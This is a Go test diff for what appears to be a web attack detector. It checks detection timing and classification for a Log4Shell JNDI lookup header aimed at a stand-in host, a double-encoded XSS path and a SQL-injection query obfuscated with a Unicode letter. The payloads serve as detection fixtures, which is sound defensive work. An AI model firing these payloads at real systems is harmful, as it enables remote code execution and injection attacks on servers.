@@ -485,3 +485,30 @@ func TestWebClientMemory(t *testing.T) {
 	}
 	runtime.KeepAlive(d)
 }
+
+// TestWebReviewFindings: a Log4Shell header is evidence for the window it
+// falls in, not for as long as the client stays; a twice-encoded payload
+// in the path is found as in the query; a (?i) match through a non-ASCII
+// letter (ſ folds to s) is not lost to the prefilter.
+func TestWebReviewFindings(t *testing.T) {
+	w := newWeb(firefoxUA)
+	w.get("/", 200, "X-Api-Version: ${jndi:ldap://192.0.2.1/a}\r\n")
+	for i := 0; i < 40; i++ {
+		w.after(30*time.Second).get("/index.html", 200)
+	}
+	all := runWeb(t, Config{}, w.evs)
+	if f := finals(all); len(f) != 1 || f[0].LastSeen.Sub(f[0].FirstSeen) > 25*time.Minute ||
+		f[0].Timestamp.Sub(w.evs[0].Time) > 10*time.Minute {
+		t.Errorf("one Log4Shell request held the episode open for the client's whole stay: %+v", f)
+	}
+	l := DefaultWebLists()
+	for target, want := range map[string]string{
+		"/x/%253Cscript%253Ealert(1)%253C/script%253E": "xss",
+		"/i?id=1+union+%C5%BFelect+1":                  "sqli",
+	} {
+		h := &HTTP{Method: "GET", Target: target, Head: "GET " + target + " HTTP/1.1\r\n"}
+		if got := l.inspect(h, nil, nil).injected; !slices.Contains(got, want) {
+			t.Errorf("%s: classes %v, want %s", target, got, want)
+		}
+	}
+}
